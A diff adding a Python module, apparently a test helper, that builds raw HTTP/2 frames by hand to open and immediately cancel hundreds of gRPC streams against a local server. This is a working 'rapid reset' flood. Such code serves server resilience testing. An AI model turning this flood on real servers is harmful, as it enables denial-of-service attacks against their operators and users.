@@ -1,0 +1,71 @@
+"""A peer that opens streams and resets them at once, as fast as its connection takes them.
+
+Its few frames are written by hand (RFC 9113, RFC 7541): no client library would do this.
+"""
+
+from __future__ import annotations
+
+import socket
+from typing import BinaryIO
+
+TIMEOUT_S = 60.0
+AT_ONCE = 500  # open streams: fewer than a server allows
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_HEADERS, _RST_STREAM, _SETTINGS = 1, 3, 4
+_END_HEADERS, _ACK = 0x4, 0x1
+_CANCEL = 8
+_HEAD_NBYTES = 9
+
+
+def _frame(kind: int, payload: bytes, *, flags: int = 0, stream: int = 0) -> bytes:
+    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
+    return head + payload
+
+
+def _header(name: bytes, value: bytes) -> bytes:
+    """Return a literal header that is not indexed, without Huffman's code."""
+    assert max(len(name), len(value)) < 0x7F
+    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
+
+
+def flood(port: int, method: str, streams: int) -> None:
+    """Open and reset so many streams; return once the server's transport has read all of them.
+
+    Blocks meanwhile: called on the server's event loop, it keeps the server from taking a call.
+    """
+    headers = b"".join((
+        _header(b":method", b"POST"),
+        _header(b":scheme", b"http"),
+        _header(b":path", method.encode()),
+        _header(b":authority", b"x"),
+        _header(b"te", b"trailers"),
+        _header(b"content-type", b"application/grpc"),
+    ))  # fmt: skip
+    with socket.create_connection(("127.0.0.1", port), TIMEOUT_S) as connection:
+        connection.sendall(_PREFACE)
+        answers = connection.makefile("rb")
+        _send(connection, answers, b"")
+        for begin in range(0, streams, AT_ONCE):
+            numbers = range(2 * begin + 1, 2 * min(begin + AT_ONCE, streams), 2)
+            opened = (_frame(_HEADERS, headers, flags=_END_HEADERS, stream=n) for n in numbers)
+            _send(connection, answers, b"".join(opened))
+            reset = (_frame(_RST_STREAM, _CANCEL.to_bytes(4, "big"), stream=n) for n in numbers)
+            _send(connection, answers, b"".join(reset))
+
+
+def _send(connection: socket.socket, answers: BinaryIO, frames: bytes) -> None:
+    """Send frames, and wait until the transport has read them: it acknowledges what comes last.
+
+    Settings, because many pings would have the server hang up.
+    """
+    connection.sendall(frames + _frame(_SETTINGS, b""))
+    _await_answer(answers)
+
+
+def _await_answer(answers: BinaryIO) -> None:
+    while True:
+        head = answers.read(_HEAD_NBYTES)
+        assert len(head) == _HEAD_NBYTES, "the server hung up"
+        answers.read(int.from_bytes(head[:3], "big"))
+        if (head[3], head[4] & _ACK) == (_SETTINGS, _ACK):
+            return
